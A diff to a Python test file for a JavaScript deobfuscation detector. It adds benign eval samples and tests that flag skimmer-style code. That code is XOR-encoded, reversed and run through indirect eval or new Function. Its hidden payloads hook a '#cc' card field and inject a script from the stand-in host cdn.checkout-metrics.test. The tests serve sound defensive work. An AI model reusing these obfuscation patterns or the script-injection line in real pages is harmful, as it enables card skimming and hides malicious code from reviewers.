@@ -94,6 +94,19 @@ def test_decoded_urls(code: str, url: str, kind: RequestType) -> None:
         "})(window,document,'script','https://www.google-analytics.com/analytics.js','ga');",
         "document.write('<p>' + new Date().getFullYear() + '</p>');",
         "var token = 'dGhpcyBpcyBub3QgYSB1cmwgYXQgYWxsIGJ1dCBhIGxvbmcgdG9rZW4=';",
+        # a bundle's CRC-32 (XOR of char codes) far from its dev loader's eval of a module's
+        # source, beside an inlined font: no XOR decoder runs what it decodes
+        "function crc(s){var c=-1;for(var i=0;i<s.length;i++){c=(c>>>8)^T[(s.charCodeAt(i)^c)&255];"
+        "}return ~c;}" + "var cfg={a:1,b:2,c:3};" * 60 + "var font='" + "QUJD" * 80 + "';"
+        "function load(src){return eval(src);}",
+        # a bot check's configuration XOR-decoded with the key it holds and evaluated: data
+        "(function(){var k='pX7fQ2',c='"
+        "\\x0b\\x7a\\x56\\x16\\x21\\x7b\\x14\\x7a\\x0d\\x44\\x01\\x6a\\x11\\x69\\x55\\x54\\x32\\x01\\x14\\x6c\\x15\\x4a\\x73\\x57\\x1e\\x3c\\x47\\x09\\x38\\x5c\\x04\\x7a\\x0d\\x44\\x7e\\x53\\x41\\x3a\\x05\\x05"
+        "\\x62\\x56\\x44\\x77\\x4f\\x0e\\x23\\x1d\\x11\\x28\\x5e\\x49\\x27\\x00\\x5f\\x3b\\x58\\x0a\\x3d\\x57\\x13\\x2c\\x58\\x14\\x73\\x1e\\x52\\x2b\\x52\\x08\\x22\\x5d\\x02\\x0e\\x52\\x14\\x22\\x5b\\x1f\\x36"
+        "\\x15\\x5c\\x73\\x0a\\x5e\\x6c\\x19\\x57\\x73\\x1e\\x52\\x2a\\x52\\x12\\x23\\x5b\\x15\\x2b\\x15\\x5c\\x62\\x1e\\x52\\x2c\\x5e\\x0b\\x34\\x5d\\x05\\x2c\\x44\\x44\\x6b\\x69\\x45\\x68\\x07\\x4a\\x60\\x07"
+        "\\x40\\x68\\x1b\\x52\\x64\\x02\\x40\\x05\\x4a"
+        "',o='';for(var i=0;i<c.length;i++)o+=String.fromCharCode(c.charCodeAt(i)^k.charCodeAt("
+        "i%k.length));var s=o;window._pxConf=eval('('+s+')');eval(s);})();",
         # a string hash by XOR beside an eval of a template: no hidden literal to run
         "function h(s){var x=0;for(var i=0;i<s.length;i++){x=(x<<5)^s.charCodeAt(i);}"
         "return x;}var tpl=cfg.tpl;eval(tpl);",
@@ -163,6 +176,44 @@ def test_code_decoded_by_xor_and_run_is_machine_obfuscation() -> None:
             f"}})(z)}}('{hexed(hidden)}',window.location.hostname);")
     decoded = decode_script(code)
     assert decoded.machine and "XOR" in " ".join(decoded.signals)
+
+
+@pytest.mark.parametrize(("xor", "run"), [
+    ("t.charCodeAt(n%t.length)^z.charCodeAt(0)", "window['eval'](n);"),
+    ("z.charCodeAt(0)^t.charCodeAt(n%t.length)", "(0,eval)(n);"),
+    ("z.charCodeAt(0)^t.charCodeAt(n%t.length)", "window[\"eval\"] (n);"),
+    ("z.charCodeAt(0)^t.charCodeAt(n%t.length)", "new Function('',n)();"),
+    ("0x5a^z.charCodeAt(0)", "new Function(n)();"),
+])
+def test_xor_decoding_run_by_another_spelling_is_machine_obfuscation(xor: str, run: str) -> None:
+    """The skimmer's XOR run with its operands swapped, or run by an indirect `eval`
+    (`window['eval'](n)`, `(0,eval)(n)`) or `new Function('', n)`: the same shape."""
+    key = "shop.example"
+    hidden = "".join(chr(ord(c) ^ ord(key[i % len(key)])) for i, c in enumerate(
+        "document.querySelector('#cc').addEventListener('change',function(){});"))[::-1]
+    code = ("!function(z,t){!(function(z){var n=(function(z,t){return z.split('').map("
+            f"function(z,n){{return String.fromCharCode({xor})}}).join('');}})(z.split('')"
+            f".reverse().join(''),t);try{{{run}}}catch(e){{}}}})(z)}}('{hexed(hidden)}',"
+            "window.location.hostname);")
+    decoded = decode_script(code)
+    assert decoded.machine and "XOR" in " ".join(decoded.signals), decoded.signals
+
+
+def test_code_decoded_by_xor_with_a_key_the_script_holds_is_read() -> None:
+    """The skimmer's shape with its key a literal of the script (not the page's host):
+    the decoder reads what runs, so the address it loads is found as loaded."""
+    key = "k3yZ"
+    hidden = "".join(chr(ord(c) ^ ord(key[i % len(key)])) for i, c in enumerate(
+        "var s=document.createElement('script');s.src='https://cdn.checkout-metrics.test/c.js';"
+        "document.head.appendChild(s);"))[::-1]
+    code = ("!function(z,t){!(function(z){var n=(function(z,t){return z.split('').map("
+            "function(z,n){return String.fromCharCode(z.charCodeAt(0)^t.charCodeAt(n%t.length))"
+            "}).join('');})(z.split('').reverse().join(''),t);try{new Function(n)();}catch(e){}"
+            f"}})(z)}}('{hexed(hidden)}','{key}');")
+    decoded = decode_script(code)
+    assert decoded.machine
+    assert [(u.url, u.loaded) for u in decoded.urls] == [
+        ("https://cdn.checkout-metrics.test/c.js", True)], decoded.urls
 
 
 def test_unpack_round_trip() -> None:
